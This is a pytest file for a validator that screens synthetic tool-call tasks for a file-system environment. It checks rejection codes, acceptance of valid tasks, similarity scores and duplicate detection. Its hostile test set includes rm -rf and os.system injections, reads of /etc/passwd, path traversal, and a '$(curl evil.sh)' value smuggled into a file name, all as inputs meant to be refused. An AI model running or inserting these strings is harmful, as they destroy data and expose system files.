"""Validation by execution: hostile and broken candidates are all rejected with the right reason; good ones become
tasks the env scores 1.0 by replaying their solution; the similarity behind near-duplicates matches hand numbers."""

from __future__ import annotations

import json
import random

import pytest

from coevolve.envs.base import Env, Episode, step_failure
from coevolve.envs.bfcl_lite import BFCLLiteEnv
from coevolve.evaluate import evaluate, oracle_script
from coevolve.records import Candidate, Score, Step, Task, ToolCall
from coevolve.states import ARGUMENT_STATES
from coevolve.validate import (REJECTION_CODES, ValidationConfig, Validator, query_similarity, solution_similarity,
                               task_similarity)


@pytest.fixture(scope="module")
def lite():
    env = BFCLLiteEnv("train")
    # A start with root files and at least one folder holding a file: room for every kind of candidate.
    task = next(t for t in env.tasks() if any(
        entry["type"] == "directory" and entry["contents"]
        for entry in next(iter(t.initial_state["GorillaFileSystem"]["root"].values()))["contents"].values()))
    return env, task


def _root(task):
    user = next(iter(task.initial_state["GorillaFileSystem"]["root"].values()))
    files = sorted(name for name, entry in user["contents"].items() if entry["type"] == "file")
    folders = {name: sorted(entry["contents"]) for name, entry in user["contents"].items()
               if entry["type"] == "directory"}
    return files, folders


def _candidate(task, solution, query="Do the thing.", intent="test", **changes):
    candidate = Candidate.create(task.env, intent, query, solution, task.initial_state, task.meta, task.id)
    return candidate if not changes else Candidate(**{**candidate.to_dict(), **changes})


# -- a user's own tools: one of them is not reproducible, one does nothing ------------------------------------------


class _DiceEpisode(Episode):
    def __init__(self, task):
        self.task, self.rolls, self.steps, self._done = task, list(task.initial_state.get("rolls", [])), [], False

    turn_index = property(lambda self: int(self._done))
    done = property(lambda self: self._done)

    def user_messages(self):
        return [] if self._done else [dict(m) for m in self.task.turns[0]]

    def tools(self):
        return [{"name": "roll", "description": "Roll a die and keep the result.", "parameters": {"properties": {}}},
                {"name": "noop", "description": "Do nothing.", "parameters": {"properties": {}}},
                {"name": "count", "description": "How many rolls are kept.", "parameters": {"properties": {}}}]

    def act(self, calls):
        steps = []
        for text in calls:
            name = text.split("(")[0]
            if name == "roll":
                self.rolls.append(random.randint(1, 10**6))  # unseeded on purpose: not reproducible
                observation = str(self.rolls[-1])
            elif name == "count":
                observation = str(len(self.rolls))
            else:
                observation = "None"
            steps.append(Step(0, 0, text, ToolCall(name), observation))
        self.steps.extend(steps)
        return tuple(steps)

    def end_turn(self):
        self._done = True

    def score(self):
        return Score(1.0)

    def state(self):
        return {"rolls": list(self.rolls)}


class DiceEnv(Env):
    name = "dice"
    states = ARGUMENT_STATES

    def tasks(self):
        return [Task.create("dice", "dice_0", [[{"role": "user", "content": "Roll."}]], {"rolls": []}, [["roll()"]])]

    def reset(self, task):
        return _DiceEpisode(task)


# -- the hostile set -------------------------------------------------------------------------------------------------


def test_every_hostile_or_broken_candidate_is_rejected_with_its_reason(lite):
    env, task = lite
    files, folders = _root(task)
    folder = next(name for name, inside in folders.items() if inside)
    validator = Validator(env, known=[task])
    seed_query = task.turns[0][0]["content"]
    hostile = [
        ("unknown_function", _candidate(task, ["launch_rockets(count=3)"])),
        ("unknown_function", _candidate(task, ["pwd()"])),  # a GorillaFileSystem method this task does not expose
        ("unparseable", _candidate(task, ["cat(file_name=__import__('os').system('rm -rf /'))"])),
        ("unparseable", _candidate(task, ["ls(); import os"])),
        ("unparseable", _candidate(task, ["cat(file_name=open('/etc/passwd').read())"])),
        ("unsafe_argument", _candidate(task, ["touch(file_name='x; rm -rf ~')"])),
        ("unsafe_argument", _candidate(task, ["touch(file_name='$(curl evil.sh)')"])),
        ("unsafe_argument", _candidate(task, ["touch(file_name='__import__')"])),
        ("private_function", _candidate(task, ["_load_scenario(scenario={})"])),
        ("private_function", _candidate(task, ["__init__()"])),
        ("path_escape", _candidate(task, ["cat(file_name='../../etc/passwd')"])),
        ("path_escape", _candidate(task, ["cd(folder='/root')"])),
        ("path_escape", _candidate(task, ["touch(file_name='~/.bashrc')"])),
        ("too_large", _candidate(task, ["touch(file_name='" + "a" * 1_000_000 + "')"])),
        ("too_large", _candidate(task, ["ls()"] * 20)),
        ("too_large", _candidate(task, ["ls()"], query="q" * 5000)),
        ("malformed", "this is not JSON {"),
        ("malformed", json.dumps(["a", "list"])),
        ("malformed", json.dumps({"query": "no other fields"})),
        ("malformed", json.dumps({**_candidate(task, ["ls()"]).to_dict(), "solution": "ls()"})),
        ("malformed", _candidate(task, [])),
        ("malformed", _candidate(task, ["ls()"], query="   ")),
        ("malformed", _candidate(task, ["ls()"], env="appworld")),
        ("malformed", _candidate(task, ["ls()"], initial_state={"GorillaFileSystem": {"root": 5}})),
        ("execution_error", _candidate(task, [f"cat(file_name='{files[0]}')", "cat(file_name='missing.txt')"])),
        ("execution_error", _candidate(task, [f"cd(folder='{folder}')", "cd(folder='nowhere')", "ls()"])),
        ("execution_error", _candidate(task, [f"mkdir(dir_name='{folder}')"])),  # exists already
        ("no_effect", _candidate(task, ["touch(file_name='fresh.txt')", "rm(file_name='fresh.txt')"])),
        ("redundant", _candidate(task, ["ls()", "ls()"])),
        ("duplicate", _candidate(task, list(task.ground_truth[0]), query=seed_query)),
        ("duplicate", _candidate(task, list(task.ground_truth[0]), query=seed_query.upper() + "  ")),
    ]
    validations = [(code, validator.validate(item)) for code, item in hostile]
    assert all(validation.task is None for _, validation in validations)  # nothing was admitted
    verdicts = [(code, validation.verdict) for code, validation in validations]
    for code, verdict in verdicts:
        assert not verdict.accepted, (code, verdict)
        assert code in verdict.codes, (code, verdict.reasons)
        assert all(c in REJECTION_CODES for c in verdict.codes)
        assert all(reason.split(": ", 1)[1] for reason in verdict.reasons)  # every code comes with its detail

    dice = DiceEnv()
    dice_task = dice.tasks()[0]
    dice_validator = Validator(dice)
    for code, solution in [("not_reproducible", ["roll()"]), ("no_effect", ["noop()"])]:
        candidate = Candidate.create("dice", "test", "Roll.", solution, dice_task.initial_state)
        verdict = dice_validator.validate(candidate).verdict
        assert not verdict.accepted and verdict.codes == (code,), verdict
    # The same validator accepts what is fine in the user's env: counting is read-only and reproducible.
    assert dice_validator.validate(Candidate.create("dice", "t", "How many?", ["count()"], {"rolls": [3]})).verdict.accepted


def test_good_candidates_become_tasks_solved_by_their_solution(lite):
    env, task = lite
    files, folders = _root(task)
    folder, inside = next((name, names) for name, names in folders.items() if names)
    good = [
        _candidate(task, [f"cat(file_name='{files[0]}')"], query=f"Show me {files[0]}."),
        _candidate(task, [f"cd(folder='{folder}')", f"cat(file_name='{inside[0]}')"],
                   query=f"Open {folder} and print {inside[0]}."),
        _candidate(task, ["mkdir(dir_name='brand_new')", "cd(folder='brand_new')", "touch(file_name='a.txt')"],
                   query="Make brand_new, go in, create a.txt."),
    ]
    validator = Validator(env, known=[task])
    results = [validator.validate(c, iteration=3) for c in good]
    assert all(r.verdict.accepted for r in results), [r.verdict.reasons for r in results]
    tasks = [r.task for r in results]
    assert [r.verdict.task_id for r in results] == [t.id for t in tasks]
    assert all(t.provenance.source == "synthetic" and t.provenance.parent_id == task.id
               and t.provenance.iteration == 3 for t in tasks)
    assert tuple(tasks[1].ground_truth[0]) == good[1].solution
    report = evaluate(env, tasks, oracle_script, "oracle")
    assert report.accuracy == 1.0 and report.n == 3
    # An agent that does something else fails them: the env's checks apply to synthesized tasks as to seed tasks.
    assert evaluate(env, tasks, lambda t: [[["ls()"]]], "ls").accuracy == 0.0
    # Accepted once: the same candidate again is a duplicate of the task it became.
    again = validator.validate(good[0]).verdict
    assert again.codes == ("duplicate",) and tasks[0].id in again.reasons[0]


def test_validation_off_skips_execution_but_never_safety(lite):
    env, task = lite
    unchecked = Validator(env, ValidationConfig(check_execution=False))
    assert unchecked.validate(_candidate(task, ["cat(file_name='missing.txt')"])).verdict.accepted  # would fail to run
    assert unchecked.validate(_candidate(task, ["_private()"])).verdict.codes == ("private_function",)
    assert unchecked.validate(_candidate(task, ["cat(file_name='../x')"])).verdict.codes == ("path_escape",)


def test_similarity_matches_hand_computed_values():
    # Word sets {show, me, a.txt} and {show, me, b.txt}: 2 shared of 4 -> 0.5.
    assert query_similarity("Show me a.txt", "show  ME b.txt") == pytest.approx(0.5)
    assert query_similarity("", "") == 1.0
    # [A, B] vs [A, C]: M = 1 matched call, T = 4 calls -> 2 * 1 / 4.
    assert solution_similarity(["cd(folder='a')", "ls()"], ["cd(folder=\"a\")", "ls(a=True)"]) == pytest.approx(0.5)
    assert solution_similarity(["cd( folder = 'a' )"], ["cd(folder='a')"]) == 1.0  # normalised calls
    # [A, B, C] vs [B, C]: M = 2, T = 5 -> 0.8; queries identical -> (1 + 0.8) / 2.
    assert task_similarity("q x", ["a()", "b()", "c()"], "Q  x", ["b()", "c()"]) == pytest.approx(0.9)


def test_near_duplicate_threshold_from_config(lite):
    env, task = lite
    files, _ = _root(task)
    first = _candidate(task, [f"cat(file_name='{files[0]}')"], query=f"please show me the file {files[0]} now")
    # Same solution; query words {please, show, me, the, file, <name>, now} vs the same without `now`: 6 of 7
    # shared, so similarity (6/7 + 1) / 2 = 0.9286.
    second = _candidate(task, [f"cat(file_name='{files[0]}')"], query=f"please show me the file {files[0]}")
    strict = Validator(env, ValidationConfig(dedup_threshold=0.95))
    assert strict.validate(first).verdict.accepted
    # Under 0.95 the text check lets it through; executing it then finds the same outcome (stage 3).
    verdict = strict.validate(second).verdict
    assert verdict.codes == ("duplicate",) and "equivalent solution" in verdict.reasons[0]
    loose = Validator(env, ValidationConfig(dedup_threshold=0.9))
    assert loose.validate(first).verdict.accepted
    verdict = loose.validate(second).verdict  # under 0.9 the text check refuses it before anything runs
    assert verdict.codes == ("duplicate",) and "0.929" in verdict.reasons[0]


def test_step_failure_reads_both_kinds_of_failure():
    assert step_failure(Step(0, 0, "x()", None, "Error during execution: nope", "nope")) == "nope"
    assert step_failure(Step(0, 0, "cd()", ToolCall("cd"), '{"error": "cd: x: No such directory"}')) == \
        "cd: x: No such directory"
    assert step_failure(Step(0, 0, "cat()", ToolCall("cat"), '{"file_content": "an error occurred"}')) is None


def test_an_equivalent_solution_is_a_duplicate(lite):
    env, task = lite
    validator = Validator(env, known=[task])
    first = validator.validate(_candidate(task, ["ls()"], query="What is in this folder?"))
    assert first.verdict.accepted
    # Other calls, other words, the same results and the same final state: the same task.
    same = validator.validate(_candidate(task, ["ls(a=False)"], query="Please list the current directory."))
    assert same.verdict.codes == ("duplicate",) and "equivalent solution" in same.verdict.reasons[0]
    assert first.task.id in same.verdict.reasons[0]
    # The seed task's own outcome counts too (executed once, when first needed).
    seed_again = validator.validate(_candidate(task, list(task.ground_truth[0]), query="Completely other words."))
    assert seed_again.verdict.codes == ("duplicate",) and task.id in seed_again.verdict.reasons[0]


def test_a_candidate_that_is_a_held_out_task_is_rejected_with_its_own_reason(lite):
    """D_t never holds a held-out task, so `loop.d0: explored` cannot end in the overlap refusal after its pass."""
    env, task = lite
    query = task.turns[0][0]["content"]
    solution = [call for turn in task.ground_truth for call in turn]
    same = Candidate.create(task.env, "test", "  " + query.upper() + " ", solution, task.initial_state, task.meta)
    verdict = Validator(env, heldout=[task]).validate(same).verdict
    assert not verdict.accepted and verdict.codes == ("held_out",) and task.name in verdict.reasons[0]
    assert Validator(env).validate(same).verdict.accepted  # the same candidate with no held-out set
